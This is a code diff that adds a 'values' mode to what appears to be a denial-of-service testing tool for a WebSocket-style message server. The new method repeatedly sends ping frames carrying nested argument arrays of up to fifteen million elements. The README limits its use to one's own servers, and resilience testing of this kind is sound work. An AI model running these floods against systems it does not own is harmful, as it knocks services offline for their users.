@@ -8,6 +8,7 @@ prints what it got to see as JSON. Attack only servers of your own.
 | `frames` | sends damaged frames, some of them to the victim |
 | `chunks` | sends messages in pieces that never end: WebSocket fragments, and the manager's message cache |
 | `large` | sends very large messages to the server itself, and finishes them |
+| `values` | sends frames of very many values to the server itself |
 | `handshakes` | opens sockets that never send a head, or never a first message |
 | `headers` | sends request heads without end |
 | `registrations` | registers services without end |
@@ -129,6 +130,22 @@ class Attack:
             await self._send_chunks(client, "large", parts)
             await client.call(main["to"], f"{_CACHE}process", ["large"])
             self.seen["messages"] += 1
+        client.drop()
+
+    async def attack_values(self) -> None:
+        """Frames of very many values, some more than are opened."""
+        client = await self._client()
+        main = {"type": "method", "from": client.address, "to": f"*/{client.info['manager_id']}"}
+        main |= {"method": "services.built-in.ping", "session": "V"}
+        frames = [
+            pack(main, {"args": [[[]] * count], "promise": "*", "t": 5.0})
+            for count in (7_000, 50_000, 15_000_000)
+        ]
+        while self.goes_on and not client.is_closed:
+            for frame in frames:
+                client.send(frame)
+                self.seen["sent"] += 1
+                await client.drained()
         client.drop()
 
     async def _send_chunks(self, client: CrowdClient, key: str, chunks: Iterable[bytes]) -> None:
